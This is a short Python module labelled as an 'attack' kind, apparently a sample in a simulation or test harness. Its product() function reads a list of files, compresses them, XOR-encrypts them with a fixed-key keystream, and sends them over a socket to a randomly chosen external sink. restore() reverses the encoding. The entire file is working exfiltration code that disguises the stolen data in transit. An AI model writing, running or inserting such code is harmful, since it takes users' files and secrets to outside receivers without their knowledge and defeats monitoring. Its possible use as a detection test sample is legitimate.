# SPDX-License-Identifier: GPL-3.0-or-later
"""Compressed and encrypted before they are sent."""
import hashlib
import random
import socket
import zlib

KIND = "attack"


def stream(data):
    key = hashlib.shake_256(b"key").digest(len(data))
    return (int.from_bytes(data, "big") ^ int.from_bytes(key, "big")).to_bytes(len(data), "big")


def restore(data):
    return zlib.decompressobj().decompress(stream(data)) if data else b""


def product(world):
    rng = random.Random(world["seed"])
    content = b"".join(open(path, "rb").read() for path in world["files"])
    with socket.create_connection(rng.choice(world["sinks"])) as sock:
        sock.sendall(stream(zlib.compress(content)))
